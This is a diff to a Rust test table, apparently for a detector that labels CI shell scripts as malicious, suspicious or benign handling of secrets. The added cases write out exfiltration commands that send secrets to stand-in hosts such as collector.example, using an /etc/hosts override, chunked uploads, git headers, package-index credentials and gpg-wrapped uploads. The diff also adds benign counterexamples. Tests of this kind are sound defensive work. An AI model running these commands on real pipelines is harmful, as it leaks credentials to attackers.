@@ -1059,6 +1059,64 @@ npm publish --registry https://registry.evil.example/"##,
         place: "workflow-log",
         verdict: Verdict::Suspicious,
     },
+    Way {
+        name: "hosts file",
+        shell: "bash",
+        script: r##"echo '192.0.2.9 api.github.com' | sudo tee -a /etc/hosts
+curl -d "$A$B" http://api.github.com/x"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "192.0.2.9",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "split pieces",
+        shell: "bash",
+        script: r##"echo "$A:$B" | split -b 20 - part.
+for p in part.*; do curl --data-binary @$p https://collector.example/$p; done"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "git header",
+        shell: "bash",
+        script: r##"git -c http.extraHeader="X: $A$B" ls-remote https://collector.example/r.git"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Suspicious,
+    },
+    Way {
+        name: "pip index login",
+        shell: "bash",
+        script: r##"pip download --index-url https://$A:$B@collector.example/simple x"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Suspicious,
+    },
+    Way {
+        name: "npm token",
+        shell: "bash",
+        script: r##"npm config set //collector.example/:_authToken "$B"
+npm config set registry https://collector.example/
+npm ci"##,
+        later: "",
+        secrets: &["NPM_TOKEN"],
+        place: "collector.example",
+        verdict: Verdict::Suspicious,
+    },
+    Way {
+        name: "gpg dash",
+        shell: "bash",
+        script: r##"printf %s "$A$B" | gpg --batch --symmetric --passphrase x -o - | curl --upload-file - https://collector.example/in"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
 ];
 
 /// What people do with their own secrets in the same words.
@@ -1104,6 +1162,9 @@ kubectl apply -f k8s/"##,
     ("brace mkdir", "bash", r##"mkdir -p {a,b}/{c,d}; cp x.{txt,md} a/"##),
     ("array flags", "bash", r##"F=(--a --b "$A"); ./deploy.sh "${F[@]}""##),
     ("own api by var", "bash", r##"curl -H "Authorization: Bearer $A" "$DEPLOY_URL/hook""##),
+    ("psql secret url", "bash", r##"psql "$A" -f migrations/001.sql"##),
+    ("tee shown", "bash", r##"echo "$A" | sudo tee /etc/wireguard/wg0.conf"##),
+    ("jq project", "bash", r##"echo "$A" > k.json; jq -r .project_id k.json"##),
 ];
 
 #[test]
